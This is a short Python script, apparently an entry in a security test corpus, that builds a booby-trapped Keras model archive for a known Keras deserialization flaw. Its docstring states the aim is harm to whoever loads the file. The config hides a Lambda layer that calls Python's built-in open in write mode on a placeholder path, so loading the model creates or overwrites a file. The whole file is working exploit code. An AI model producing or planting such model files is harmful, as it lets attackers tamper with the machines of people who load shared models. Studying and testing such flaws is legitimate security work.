"""Saves a model with code of its own in it, for whoever loads the file.

aim: harm
known: keras https://github.com/io-no/CVE-Reports/issues/2
section: keras
where: keep
deserves: keep-check
"""

import json
import zipfile

CALL = {
    "module": "builtins",
    "class_name": "function",
    "config": "open",
    "registered_name": "function",
}
LAYER = {
    "module": "keras.layers",
    "class_name": "Lambda",
    "config": {"name": "surprise", "function": CALL, "arguments": {"mode": "w"}},
    "registered_name": None,
}
MODEL = {
    "module": "keras",
    "class_name": "Sequential",
    "config": {"name": "mine", "layers": [LAYER], "build_input_shape": ["@CANARY@"]},
    "registered_name": None,
}


def keep(path):
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("config.json", json.dumps(MODEL))
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.12.0"}))
        archive.writestr("model.weights.h5", b"")
